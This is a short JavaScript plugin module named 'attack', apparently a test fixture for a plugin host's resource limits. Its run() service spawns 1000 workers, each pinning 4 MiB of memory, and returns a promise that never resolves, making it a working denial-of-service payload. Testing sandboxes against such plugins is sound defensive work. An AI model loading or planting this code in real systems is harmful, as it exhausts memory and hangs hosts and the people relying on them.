export default {
  metadata: { id: "attack", version: "1.0.0" },
  onLoad(context) {
    context.services.provide("attack", {
      run() {
        const { promise } = Promise.withResolvers();
        for (let count = 0; count < 1000; count++) {
          new Worker("data:text/javascript,globalThis.kept=new Uint8Array(2**22).fill(1)", { type: "module" });
        }
        return promise;
      },
    });
  },
};
